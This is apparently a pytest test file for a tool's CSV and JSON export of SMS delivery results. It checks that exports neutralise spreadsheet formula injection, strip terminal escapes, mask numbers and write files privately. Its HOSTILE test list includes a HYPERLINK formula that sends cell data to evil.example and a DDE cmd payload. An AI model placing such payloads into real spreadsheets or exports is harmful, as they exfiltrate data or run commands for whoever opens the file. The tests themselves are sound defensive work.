"""The export's bytes: CSV that no spreadsheet runs, JSON that keeps server text exactly."""

from __future__ import annotations

import csv
import io
import json
import os
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from tui.core.api.model import Delivery, SendKind
from tui.core.api.parse import parse_delivery
from tui.core.export import (
    EVENT_COLUMNS,
    RECIPIENT_COLUMNS,
    ExportError,
    default_folder,
    default_name,
    export_bytes,
    neutralise,
    write_export,
)
from tui.core.store.watchlist import WatchedSend

SEND = WatchedSend(
    "demo", "MzA6Nzg6MA", "c21NCNSDN2sMMWM2miosdjEHH", SendKind.MESSAGE_CONTACT, "BF"
)
NOW = datetime(2020, 11, 25, 20, 0, 0, tzinfo=UTC)
SEEN = datetime(2020, 11, 25, 19, 1, 10, 250000, tzinfo=UTC)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+15555550100",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "line one\nline two",
    "\x1b]52;c;ZXZpbA==\x07 bell and OSC",
    "\x00=NUL first",
    "＝HYPERLINK(1)",
]


def entry(number: str, text: str, code: int | None = 4503) -> dict[str, Any]:
    return {
        "mobileNumber": number,
        "statusCode": text,
        "message": text,
        "standardStatusCode": code,
        "description": text,
    }


def delivery(tracking: list[dict[str, Any]]) -> Delivery:
    return parse_delivery(
        {
            "message": "=cmd",
            "count": len(tracking),
            "createDate": "2020-11-25T13:01:04.147",
            "completeDate": "2020-11-25T13:01:55.197",
            "status": "Finished",
            "tracking": tracking,
        }
    )


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def spreadsheet_would_run(cell: str) -> bool:
    """What a spreadsheet does with a cell: a formula if it starts like one, once any
    leading blanks are dropped (as some importers do)."""
    triggers = set("=+-@\t\r\0＝＋－＠")
    return cell[:1] in triggers or cell.lstrip()[:1] in triggers


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_leaves_nothing_a_spreadsheet_runs(text: str) -> None:
    out = neutralise(text)
    assert not spreadsheet_would_run(out)
    assert out.removeprefix("'") == text, "only a leading quote is added"


@pytest.mark.parametrize("text", ["15555550100", "Delivered", "NA", "", "1-800 flowers", "a=b"])
def test_neutralise_leaves_ordinary_text_alone(text: str) -> None:
    assert neutralise(text) == text


def test_hostile_server_text_is_inert_in_every_csv_cell() -> None:
    numbers = [f"1555555{n:04d}" for n in range(len(HOSTILE))]
    d = delivery([entry(num, text) for num, text in zip(numbers, HOSTILE, strict=True)])
    data = export_bytes("csv", SEND, d, d.recipients, {}, exported_at=NOW, events=True)
    rows = read_csv(data)
    assert rows[0] == [*RECIPIENT_COLUMNS, *EVENT_COLUMNS]
    assert len(rows) == 1 + len(HOSTILE)  # one line each: newlines inside never split a row
    for row in rows[1:]:
        for cell in row:
            assert not spreadsheet_would_run(cell), cell
            assert cell.isprintable(), cell  # no ESC, BEL, NUL, CR or LF reaches a terminal
    hyperlink = rows[1][RECIPIENT_COLUMNS.index("last_message")]
    assert hyperlink == "'" + HOSTILE[0]
    assert rows[8][RECIPIENT_COLUMNS.index("last_message")] == "line one line two"


def test_numbers_from_the_api_are_written_as_they_are_and_a_plus_number_as_text() -> None:
    d = delivery([entry("15555550100", "ok", 4000), entry("+15555550101", "ok", 4000)])
    rows = read_csv(export_bytes("csv", SEND, d, d.recipients, {}, exported_at=NOW))
    assert [r[0] for r in rows[1:]] == ["15555550100", "'+15555550101"]


def test_csv_columns_say_which_time_is_whose() -> None:
    d = delivery([entry("15555550100", "Delivered", 4000), entry("15555550101", "x", 4501)])
    since = {"15555550100": SEEN}
    rows = read_csv(export_bytes("csv", SEND, d, d.recipients, since, exported_at=NOW))
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first == {
        "mobile_number": "15555550100",
        "outcome": "delivered",
        "code": "4000",
        "code_name": "Delivered",
        "last_status_code": "Delivered",
        "last_message": "Delivered",
        "last_description": "Delivered",
        "event_count": "1",
        "sendwatch_outcome_first_seen_utc": "2020-11-25T19:01:10.250+00:00",
        "sendwatch_outcome_at_first_read": "false",
        "api_send_created_utc": "2020-11-25T19:01:04.147+00:00",  # MC time is UTC−6
        "api_send_completed_utc": "2020-11-25T19:01:55.197+00:00",
    }
    second = dict(zip(rows[0], rows[2], strict=True))
    assert second["sendwatch_outcome_first_seen_utc"] == ""
    assert second["sendwatch_outcome_at_first_read"] == ""
    assert second["code_name"] == "Expired"


def test_an_outcome_seen_at_the_first_read_is_flagged_as_already_so_then() -> None:
    d = delivery([entry("15555550100", "Delivered", 4000), entry("15555550101", "x", 4501)])
    later = SEEN + timedelta(minutes=1)
    since = {"15555550100": SEEN, "15555550101": later}
    kwargs: dict[str, Any] = {"exported_at": NOW, "blind": (SEEN,)}
    rows = read_csv(export_bytes("csv", SEND, d, d.recipients, since, **kwargs))
    column = rows[0].index("sendwatch_outcome_at_first_read")
    assert [row[column] for row in rows[1:]] == ["true", "false"]
    body = json.loads(export_bytes("json", SEND, d, d.recipients, since, **kwargs))
    assert [r["sendwatchOutcomeAtFirstRead"] for r in body["recipients"]] == [True, False]


def test_only_the_rows_handed_in_are_written_and_masking_hides_numbers() -> None:
    d = delivery([entry("15555550100", "a", 4000), entry("15555550101", "b", 4501)])
    failed = [r for r in d.recipients if r.outcome_code == 4501]
    data = export_bytes("csv", SEND, d, failed, {}, exported_at=NOW, mask=True)
    rows = read_csv(data)
    assert [r[0] for r in rows[1:]] == ["1555•••0101"]
    assert b"15555550101" not in data and b"15555550100" not in data


def test_events_give_a_row_per_event_in_carrier_order() -> None:
    d = delivery(
        [
            {"mobileNumber": "15555550100", "statusCode": "20", "message": "NA",
             "standardStatusCode": "3000", "description": "enroute"},
            {"mobileNumber": "15555550100", "statusCode": "200", "message": "Carrier Success",
             "standardStatusCode": "4000", "description": "Delivered to handset"},
        ]
    )  # fmt: skip
    rows = read_csv(export_bytes("csv", SEND, d, d.recipients, {}, exported_at=NOW, events=True))
    tail = [r[len(RECIPIENT_COLUMNS) :] for r in rows[1:]]
    assert tail == [
        ["1", "20", "NA", "3000", "enroute"],
        ["2", "200", "Carrier Success", "4000", "Delivered to handset"],
    ]


def test_a_csv_file_starts_with_a_bom_for_excel_and_stdout_does_not() -> None:
    d = delivery([entry("15555550100", "a", 4000)])
    assert export_bytes("csv", SEND, d, d.recipients, {}, exported_at=NOW, bom=True)[:3] == (
        b"\xef\xbb\xbf"
    )
    assert export_bytes("csv", SEND, d, d.recipients, {}, exported_at=NOW)[:3] == b"mob"


def test_json_keeps_server_text_exactly_and_says_what_was_exported() -> None:
    hostile = "\x1b[31m=HYPERLINK(1)\u202e\nx"
    d = delivery([entry("15555550100", hostile), entry("15555550101", "fine", 4000)])
    data = export_bytes(
        "json", SEND, d, d.recipients[:1], {"15555550100": SEEN}, exported_at=NOW, events=True
    )
    assert b"\x1b" not in data and b"\n=" not in data  # escaped: safe to print
    body = json.loads(data)
    assert body["exportedAt"] == "2020-11-25T20:00:00.000+00:00"
    assert body["exported"] == 1 and body["masked"] is False
    send = body["send"]
    assert send["messageId"] == SEND.message_id and send["tokenId"] == SEND.token_id
    assert send["label"] == "BF" and send["recipients"] == 2
    assert send["apiCreateDateRaw"] == "2020-11-25T13:01:04.147"
    assert send["apiCreateDate"] == "2020-11-25T19:01:04.147+00:00"
    assert send["outcomes"] == {"delivered": 1, "failed": 1, "pending": 0, "unknown": 0}
    (r,) = body["recipients"]
    assert r["mobileNumber"] == "15555550100"
    assert r["lastMessage"] == hostile  # exactly as the server sent it
    assert r["code"] == 4503 and r["codeName"] == "Rejected" and r["outcome"] == "failed"
    assert r["sendwatchOutcomeFirstSeen"] == "2020-11-25T19:01:10.250+00:00"
    assert r["events"] == [
        {
            "statusCode": hostile,
            "message": hostile,
            "standardStatusCode": 4503,
            "description": hostile,
        }
    ]


def test_json_without_events_and_masked() -> None:
    d = delivery([entry("15555550100", "a", 4000)])
    body = json.loads(export_bytes("json", SEND, d, d.recipients, {}, exported_at=NOW, mask=True))
    assert body["masked"] is True
    assert body["recipients"][0]["mobileNumber"] == "1555•••0100"
    assert "events" not in body["recipients"][0]
    assert body["recipients"][0]["sendwatchOutcomeFirstSeen"] is None


def test_a_lone_surrogate_from_the_server_does_not_break_the_file() -> None:
    d = delivery([entry("15555550100", "bad \ud800 text")])
    for fmt in ("csv", "json"):
        data = export_bytes(fmt, SEND, d, d.recipients, {}, exported_at=NOW)  # type: ignore[arg-type]
        text = data.decode("utf-8")  # strict: the file is valid UTF-8
        assert "bad \ufffd text" in text or "bad ? text" in text


def test_default_name_and_folder(tmp_path: Path, isolated_dirs: Path) -> None:
    name = default_name(SEND, "json", NOW)
    assert name == "sendwatch-bf-MzA6Nzg6MA-c21NCNSDN2sM-20201125T200000Z.json"
    odd = WatchedSend("demo", "a/b+c==", "tok_en-1", SendKind.MESSAGE_LIST, "../../Black Friday!")
    assert (
        default_name(odd, "csv", NOW)
        == "sendwatch-black-friday-a-b-c-tok-en-1-20201125T200000Z.csv"
    )
    assert default_folder() == Path.cwd()  # no Downloads folder yet
    (isolated_dirs / "Downloads").mkdir()
    assert default_folder() == isolated_dirs / "Downloads"


def test_write_export_is_whole_and_private(tmp_path: Path) -> None:
    target = tmp_path / "new" / "out.csv"
    write_export(target, b"a,b\r\n")
    assert target.read_bytes() == b"a,b\r\n"
    assert target.stat().st_mode & 0o777 == 0o600
    assert [p.name for p in target.parent.iterdir()] == ["out.csv"]  # no temp file left


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_a_read_only_folder_is_an_export_error(tmp_path: Path) -> None:
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        with pytest.raises(ExportError) as caught:
            write_export(folder / "out.csv", b"x")
    finally:
        folder.chmod(0o700)
    assert caught.value.exit_code == 73
    assert "out.csv" in str(caught.value) and "ermission" in str(caught.value)


def test_a_path_that_cannot_be_a_file_is_an_export_error(tmp_path: Path) -> None:
    (tmp_path / "taken").mkdir()
    with pytest.raises(ExportError, match="taken"):
        write_export(tmp_path / "taken", b"x")
    blocker = tmp_path / "file"
    blocker.write_text("")
    with pytest.raises(ExportError, match="file"):
        write_export(blocker / "below.csv", b"x")  # a file where a folder should be
